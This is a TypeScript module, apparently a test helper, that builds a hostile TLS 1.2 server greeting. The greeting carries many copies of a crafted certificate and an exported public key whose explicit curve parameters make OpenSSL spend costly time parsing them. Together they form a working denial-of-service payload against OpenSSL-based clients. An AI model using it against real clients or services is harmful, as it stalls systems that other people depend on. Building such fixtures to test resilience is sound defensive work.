import { randomBytes } from 'node:crypto';

/**
 * A certificate in DER whose curve is described by its parameters: a prime k·2^626+1, chosen so that OpenSSL needs more
 * than 60 milliseconds to read the generator. OpenSSL parses a certificate before it checks anything about it.
 */
const CERTIFICATE = Buffer.from(
  'MIIB3jCCAcqgAwIBAgIBATAKBggqhkjOPQQDAjAMMQowCAYDVQQDDAFhMB4XDTI1MDEwMTAwMDAwMFoXDTM1MDEwMTAwMDAwMFow' +
    'DDEKMAgGA1UEAwwBYTCCAXYwggFuBgcqhkjOPQIBMIIBYQIBATBcBgcqhkjOPQEBAlEAnWwAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' +
    'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAEwgaQEUAAAAAAAAAAAAAAAAAAA' +
    'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABBFAAAAAAAAAA' +
    'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABwRR' +
    'AgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' +
    'AAAAAAAHAgEAAgEBAwIABDAKBggqhkjOPQQDAgMCAAE=',
  'base64',
);

/** A public key with such a curve, in PEM. */
export const COSTLY_PUBLIC_KEY = `-----BEGIN PUBLIC KEY-----\n${
  'MIICFjCCAb4GByqGSM49AgEwggGxAgEBMFwGByqGSM49AQECUQCAGjAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' +
  'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAATCBpARQgBov////////////////////////////////' +
  '//////////////////////////////////////////////////////////////////////4EUAAAAAAAAAAAAAAAAAAAAAAAAAAA' +
  'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAHBFECAAAAAAAAAAAAAAAA' +
  'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAICUQCAGjAA' +
  'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' +
  'AQIBAQNSAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' +
  'AAAAAAAAAAAAAAAAAg=='
}\n-----END PUBLIC KEY-----\n`;

const HANDSHAKE_RECORD = 22;
const [SERVER_HELLO, CERTIFICATES] = [2, 11];
const MAX_RECORD_BYTES = 16_384;

const length24 = (length: number): Buffer => Buffer.from([length >> 16, (length >> 8) & 255, length & 255]);

const message = (type: number, content: Buffer): Buffer =>
  Buffer.concat([Buffer.from([type]), length24(content.length), content]);

/** Returns the first bytes of a hostile server in TLS 1.2, with `count` copies of the certificate. */
export function costlyGreeting(count: number): Buffer {
  const hello = Buffer.concat([
    Buffer.from([3, 3]),
    randomBytes(32),
    // No session, ECDHE-RSA-AES128-GCM-SHA256, no compression, secure renegotiation.
    Buffer.from([0, 0xc0, 0x2f, 0, 0, 5, 0xff, 1, 0, 1, 0]),
  ]);
  const copies = Array.from({ length: count }, () => [length24(CERTIFICATE.length), CERTIFICATE]).flat();
  const list = Buffer.concat(copies);
  const bytes = Buffer.concat([
    message(SERVER_HELLO, hello),
    message(CERTIFICATES, Buffer.concat([length24(list.length), list])),
  ]);
  const records: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += MAX_RECORD_BYTES) {
    const part = bytes.subarray(at, at + MAX_RECORD_BYTES);
    records.push(Buffer.from([HANDSHAKE_RECORD, 3, 3, part.length >> 8, part.length & 255]), part);
  }
  return Buffer.concat(records);
}
